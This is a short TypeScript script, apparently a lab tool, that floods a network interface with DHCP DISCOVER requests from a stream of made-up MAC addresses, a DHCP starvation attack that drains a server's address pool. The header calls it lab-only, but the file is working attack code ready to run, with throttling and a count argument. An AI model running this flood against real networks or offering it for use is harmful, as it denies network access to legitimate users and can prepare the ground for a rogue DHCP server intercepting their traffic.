// A station that asks for addresses under ever new MAC addresses: `dhcp-flood.ts INTERFACE COUNT`. Only for the lab.
import { dhcpFrame, frameSender } from "./dhcp-frame.ts";

const DISCOVER = [53, 1, 1, 255];

const [device = "", count = "0"] = process.argv.slice(2);
const send = frameSender(device);
let sent = 0;
for (let index = 0; index < Number(count); index += 1) {
  const mac = [0x06, 0xee, 0, (index >> 16) & 255, (index >> 8) & 255, index & 255];
  if (send(dhcpFrame({ source: mac, chaddr: mac, transaction: index, options: DISCOVER }))) sent += 1;
  if (index % 100 === 99) await Bun.sleep(10);
}
console.log(`sent ${sent}`);
